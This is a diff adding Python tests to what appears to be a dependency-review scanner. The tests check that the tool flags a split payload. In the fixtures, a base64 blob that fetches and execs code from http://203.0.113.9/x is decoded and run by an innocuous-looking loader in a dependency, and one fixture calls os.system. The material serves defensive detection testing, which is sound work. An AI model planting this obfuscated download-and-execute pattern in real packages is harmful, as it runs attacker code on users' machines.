@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import base64
+
 from pratique.batch import read_all
 from pratique.cache import Cache
 from pratique.ecosystems import Target
@@ -78,3 +80,53 @@ def test_a_dependency_in_use_is_not_marked_unused(registry):
     assert wanted.marks == ("new", "young", "rare")
     assert wanted.modules == ("plain_things",)
     assert wanted.level == "clear"
+
+
+LOADER = b"""import base64
+
+
+def plain(text):
+    exec(base64.b64decode(text))
+"""
+HIDDEN = base64.b64encode(b"import urllib.request; exec(urllib.request.urlopen('http://203.0.113.9/x').read())")
+
+
+def _with_loader(registry, loader):
+    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
+    using = {"acme/__init__.py": b"import plain_things\n\nplain_things.plain('" + HIDDEN + b"')\n"}
+    registry.add("1.1", using, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
+    registry.add("1.0", {"plain_things/__init__.py": loader}, "2099-01-01T00:00:00Z", name="plain_things")
+    return _reviewed(registry, "1.1")
+
+
+def test_a_blob_here_and_a_loader_there_are_one_way(registry):
+    """Neither the text nor the loader is much alone."""
+    found = _with_loader(registry, LOADER)
+
+    (wanted,) = found.dependencies
+    assert wanted.level not in {"look", "block"}
+    ran = {(use.capability, use.target, use.triggers) for use in found.uses}
+    assert ("network.http", "http://203.0.113.9/x", ("import",)) in ran
+    assert any(one.where.segments[0].startswith("<installed: plain_things-1.0") for one in found.uses)
+    assert "run-downloaded-code" in {one.rule for one in found.findings}
+    assert found.verdict.level in {"look", "block"}
+
+
+def test_what_is_never_called_in_a_dependency_does_not_count_here(registry):
+    unused = b"def plain(text):\n    return text\n\n\ndef other(text):\n    import os\n    os.system(text)\n"
+
+    found = _with_loader(registry, unused)
+
+    assert not any(one.where.segments[0].startswith("<installed") for one in found.uses)
+    assert found.verdict.level == "clear"
+
+
+def test_the_modules_of_a_dependency_do_not_make_it_used(registry):
+    registry.add("1.0", CLEAN, "2026-01-01T00:00:00Z")
+    registry.add("1.1", CLEAN, "2026-03-01T00:00:00Z", requires=("plain-things>=1",))
+    both = {"plain_things/__init__.py": b"import plain_things.other\n", "plain_things/other.py": b"X = 1\n"}
+    registry.add("1.0", both, "2099-01-01T00:00:00Z", name="plain_things")
+
+    (wanted,) = _reviewed(registry, "1.1").dependencies
+
+    assert "unused" in wanted.marks
